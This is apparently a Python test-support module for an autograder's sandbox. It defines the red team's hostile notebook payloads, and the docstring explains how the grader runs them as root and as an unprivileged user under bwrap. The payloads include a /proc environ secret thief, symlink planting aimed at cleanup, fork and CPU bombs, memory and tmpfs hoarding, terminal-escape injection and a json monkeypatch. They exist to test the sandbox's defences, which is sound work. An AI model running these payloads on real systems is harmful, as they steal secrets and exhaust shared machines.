"""The red team's attacks on the grader (issue "A grader an instructor trusts
with a hostile class"), as notebooks, and the way ``test_hostile`` runs the
grader on them: as root, and as an unprivileged user.

Every attack is the hand-out of assignment 1 with hostile code in its first
answer cell (``hand_out_with``), or a probe whose one cell gives what it found
as its answer to ``soviet_verdict`` (``probe``).

As a user: the grader runs as a uid of no account (``USER_UID``), dropped to
with ``setpriv``. Root's home (0700), where pyenv keeps this machine's Python,
is closed to such a user, so the command runs in a mount namespace of its own
(bwrap, as root) where each closed folder above the Python and the checkout
is an empty tmpfs with them bound back into it: the same arrangement the
grader's worker makes for its sandboxes.
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import nbformat

from paper_audit import paths
from paper_audit.instructor import bundle

A1 = "01_recompute_a_conversion"
USER_UID = 1_400_000_017  # no account has it (checked by the test)
# Planted in the grader's environment: no file it writes may ever hold it.
TOKEN_NAME = "PAPER_AUDIT_PLANTED_TOKEN"
TOKEN = "planted-5f1d0c2a9be7"
DRIVER = Path(__file__).with_name("hostile_driver.py")


def command(driver_args: list[str], *, as_user: bool, home: Path) -> tuple[list[str], dict[str, str]]:
    """(argv, env) that run the driver with ``driver_args``, as root or as ``USER_UID``."""
    python = sys.executable
    env = {
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "LANG": "C.UTF-8",
        "HOME": str(home),
        "PYTHONPATH": f"{paths.REPO_ROOT / 'src'}:{DRIVER.parent}",
        "PYTHONDONTWRITEBYTECODE": "1",
        TOKEN_NAME: TOKEN,
    }
    argv = [python, str(DRIVER), *driver_args]
    if not as_user:
        return argv, env
    needed = [Path(sys.base_prefix), Path(sys.prefix), Path(python).parent.parent, paths.REPO_ROOT]
    mounts = ["--dev-bind", "/", "/"]
    hidden = sorted({str(h) for p in needed if (h := closed_above(p))})
    for folder in hidden:
        mounts += ["--tmpfs", folder]
    made: set[Path] = set()
    for path in sorted({str(p) for p in needed}):
        replaced = [h for h in hidden if path.startswith(h.rstrip("/") + "/")]
        if replaced:
            for folder in reversed(Path(path).parents):
                if folder not in made and len(folder.parts) > len(Path(max(replaced, key=len)).parts):
                    made.add(folder)
                    mounts += ["--perms", "0755", "--dir", str(folder)]
            mounts += ["--ro-bind", path, path]
    drop = [shutil.which("setpriv"), f"--reuid={USER_UID}", f"--regid={USER_UID}", "--clear-groups", "--"]
    return [shutil.which("bwrap"), *mounts, "--die-with-parent", "--", *drop, *argv], env


def closed_above(path: Path) -> Path | None:
    """The highest folder above ``path`` that other users cannot pass through, or None."""
    return next((f for f in reversed(path.parents) if not f.stat().st_mode & 0o001), None)


def owned_folder(path: Path, *, as_user: bool, mode: int = 0o700) -> Path:
    """``path``, made, with ``mode``, owned by whoever the grader runs as."""
    path.mkdir(parents=True, exist_ok=True)
    if as_user:
        os.chown(path, USER_UID, USER_UID)
    path.chmod(mode)
    return path


def instructor_notebook(name: str = A1):
    return nbformat.read(paths.NOTEBOOKS_DIR / "classroom" / f"{name}.ipynb", as_version=4)


def hand_out_with(code: str, name: str = A1):
    """The hand-out of assignment ``name`` (every answer None) with ``code`` run
    first: each answer is then ``ANSWERS.get(question)``, so what the code finds
    decides the answers."""
    notebook = bundle.handout(instructor_notebook(name), name, base_url="https://example.org/")
    cells = [c for c in notebook.cells if c.cell_type == "code" and c.metadata.get("paper_audit")]
    cells[0].source = code + "\n" + cells[0].source
    for cell in cells:
        question = cell.metadata["paper_audit"]["question"]
        cell.source = cell.source.replace("answer = None", f"answer = ANSWERS.get({question!r})")
    return notebook


def probe(code: str):
    """A notebook of one cell that answers soviet_verdict with what ``code`` puts in ``answer``."""
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(code + '\n# check("soviet_verdict", answer)')]
    return notebook


# ---------------------------------------------------------------- attacks graded in a class

# 1. Reads the environment of every process it can see, the sandbox's first
#    (bwrap) included, and raises an error holding any secret: errors land in feedback.
ENVIRON_THIEF = """
import os
ANSWERS = {}
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        found += [v for v in open(f"/proc/{pid}/environ").read().split("\\0") if "TOKEN" in v or "SECRET" in v]
    except OSError:
        pass
if found:
    raise RuntimeError("stolen: " + " ".join(found))
"""

# 2. Links folders outside the sandbox into the kernel's connection folder, the
#    one place outside its own that it may write, for the worker's clean-up to walk.
LINKER = """
import glob, os
ANSWERS = {}
for n, conn in enumerate(glob.glob("/tmp/paper-audit-grade-*/conn")):
    for m, target in enumerate(CANARIES):
        os.symlink(target, os.path.join(conn, f"link-{m}"))
        os.makedirs(os.path.join(conn, "deeper"), exist_ok=True)
        os.symlink(target, os.path.join(conn, "deeper", f"link-{m}"))
"""

# 3a. Makes the grader's own capture print an answer nested 600 deep (the capture
#     program imports json from the kernel's modules, which the notebook controls).
RECURSION_BOMB = """
import json
_dumps = json.dumps
def _deep(value, *args, **kwargs):
    if isinstance(value, dict) and "question" in value:
        nested = 1
        for _ in range(600):
            nested = [nested]
        value = {"question": value["question"], "answer": nested}
    return _dumps(value, *args, **kwargs)
json.dumps = _deep
ANSWERS = {}
"""

# 3b. Answers with a lone surrogate, which no file can encode.
SURROGATE = """
ANSWERS = {"soviet_usd": "\\ud800", "soviet_verdict": "\\udfff consistent", "gift_usd": [type("\\ud800", (), {})()]}
"""

# 6. Answers and raises with terminal escapes, a bell and a right-to-left override.
ESCAPES = """
ANSWERS = {"soviet_verdict": "\\x1b]0;owned\\x07\\x1b[2J\\u202econsistent", "soviet_usd": "\\x9b31m"}
raise RuntimeError("\\x1b[2J\\x1b[H\\x07\\u202e" + "cleared")
"""

# 7. Two hundred processes, each in a session of its own if it can make one
#    (CHILDREN, also the probe SESSIONS's start: it then counts their sessions).
#    All are forked first and start together, so the fork loop is not slowed by
#    its own busy children (it took 40 s that way): the hog's 200 children are
#    then busy at once for SECONDS, while the honest notebooks named to follow
#    it (test_hostile.HONEST) are graded; the probe's children sleep instead,
#    since what it counts, their sessions, does not depend on their being busy.
CHILDREN = """
import os, time
kids = []
start = time.monotonic() + 1  # forking 200 sleeping children takes a fraction of it
for _ in range(200):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
        except OSError:
            pass
        time.sleep(max(0.0, start - time.monotonic()))
        end = start + SECONDS
        while time.monotonic() < end:
            if not BUSY:
                time.sleep(max(0.0, end - time.monotonic()))
        os._exit(0)
    kids.append(pid)
"""
CPU_HOG = (
    "ANSWERS = {}\nSECONDS = 10\nBUSY = True\n"
    + CHILDREN
    + "time.sleep(max(0.0, start + SECONDS - time.monotonic()))\n"  # the cell lasts while they are busy
)

# 8. Forks until it cannot (its children sleep), then says how many it started.
FORK_BOMB = """
import os, signal, time
kids = []
try:
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        kids.append(pid)
except OSError:
    pass
started = len(kids)
for pid in kids:
    os.kill(pid, signal.SIGKILL)
for pid in kids:
    os.waitpid(pid, 0)
ANSWERS = {}
answer = str(started)
"""

CLASS = {
    "environ_thief": ENVIRON_THIEF,
    "linker": LINKER,
    "recursion_bomb": RECURSION_BOMB,
    "surrogate": SURROGATE,
    "escapes": ESCAPES,
    "cpu_hog": CPU_HOG,
    "fork_bomb": FORK_BOMB,
}

# ---------------------------------------------------------------- probes run alone

# What the sandbox's first process (bwrap) and every other process it sees hold in their environment.
ENVIRONMENT = """
import json, os
seen = {}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        seen[pid] = open(f"/proc/{pid}/environ").read()
    except OSError as error:
        seen[pid] = type(error).__name__
answer = json.dumps(seen)
"""

# How much it can store in /dev (bwrap's tmpfs, of no set size) and in /dev/shm, up to 3 GiB each.
DEV_STORE = """
import json, os
stored = {}
for folder in ("/dev", "/dev/shm"):
    written = 0
    try:
        with open(os.path.join(folder, "hoard"), "wb") as handle:
            chunk = b"x" * 2**24
            while written < 3 * 2**30:
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
    except OSError:
        pass
    stored[folder] = written
answer = json.dumps(stored)
"""

# Fills its two tmpfs folders (memory no process holds), then holds 1.6 GiB in two children:
# each part is under the 2 GiB limit, together they are over it.
TMPFS_HOARD = """
import os, subprocess, sys, time
for folder in ("/tmp", os.path.expanduser("~")):
    for n in range(5):  # files of 48 MiB: one file may hold at most 64 MiB
        try:
            with open(os.path.join(folder, f"hoard-{n}"), "wb") as handle:
                handle.write(b"x" * 48 * 2**20)
        except OSError:
            pass
hog = "b = bytearray(800 * 2**20)\\nb[::4096] = b'y' * len(b[::4096])\\nimport time\\ntime.sleep(60)"
kids = [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(2)]
time.sleep(40)
answer = "survived"
"""

# The sessions its 200 children end up in (one per child where setsid works).
SESSIONS = (
    "SECONDS = 30\nBUSY = False\n"
    + CHILDREN
    + """
import json, signal
time.sleep(max(0.0, start - time.monotonic()) + 1)
sessions = {os.getsid(pid) for pid in kids}
for pid in kids:
    os.kill(pid, signal.SIGKILL)
for pid in kids:
    os.waitpid(pid, 0)
answer = json.dumps({"children": len(kids), "sessions": len(sessions)})
"""
)

# 4b. Sends the grader's worker one message of eight buffers of 192 MiB.
BIG_MESSAGE = """
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "display_data", {"data": {}, "metadata": {}}, buffers=[b"x" * 192 * 2**20] * 8)
import time
time.sleep(5)
answer = "sent"
"""

PROBES = {
    "big_message": BIG_MESSAGE,
    "environment": ENVIRONMENT,
    "dev_store": DEV_STORE,
    "tmpfs_hoard": TMPFS_HOARD,
    "sessions": SESSIONS,
    "fork_bomb": FORK_BOMB,
}
